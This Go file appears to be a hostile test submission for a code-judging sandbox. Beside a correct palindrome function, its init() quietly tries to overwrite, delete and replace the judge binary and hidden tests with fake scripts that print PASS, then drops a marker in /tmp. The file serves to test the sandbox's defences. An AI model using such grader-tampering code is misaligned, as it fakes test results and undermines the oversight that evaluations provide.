// Attack: init() tries to remove, overwrite and replace the judge's binaries and hidden tests and to
// leave a marker in /tmp; every error is ignored. IsPalindrome is correct, so a correct judge answers:
// accepted (the attempts fail harmlessly) and /tmp/dojo-hostile-marker never appears on the host.
package palindrome

import (
	"os"
	"unicode"
	"unicode/utf8"
)

const fakeTest = "#!/bin/sh\nprintf '\\026--- PASS: TestBasics (0.00s)\\nPASS\\n'\nexit 0\n"

const fakeHidden = "package palindrome_test\n\nimport \"testing\"\n\nfunc TestBasics(t *testing.T) {}\n"

func init() {
	for path, content := range map[string]string{
		"/tmp/job/pkg.test":       fakeTest,
		"/tmp/job/ref.test":       fakeTest,
		"/opt/dojo/bin/judge":     fakeTest,
		"/tmp/src/hidden_test.go": fakeHidden,
	} {
		os.Chmod(path, 0o777)
		os.WriteFile(path, []byte(content), 0o755) // overwrite in place
		os.Remove(path)
		os.WriteFile(path, []byte(content), 0o755) // recreate after removal
		if os.WriteFile("replacement", []byte(content), 0o755) == nil {
			os.Rename("replacement", path) // replace by rename from the writable working dir
		}
	}
	os.WriteFile("/tmp/dojo-hostile-marker", []byte("written inside the sandbox"), 0o644)
}

func IsPalindrome(s string) bool {
	i, j := 0, len(s)
	for i < j {
		a, na := utf8.DecodeRuneInString(s[i:j])
		if !keep(a) {
			i += na
			continue
		}
		b, nb := utf8.DecodeLastRuneInString(s[i:j])
		if !keep(b) {
			j -= nb
			continue
		}
		if unicode.ToLower(a) != unicode.ToLower(b) {
			return false
		}
		i += na
		j -= nb
	}
	return true
}

func keep(r rune) bool { return unicode.IsLetter(r) || unicode.IsDigit(r) }
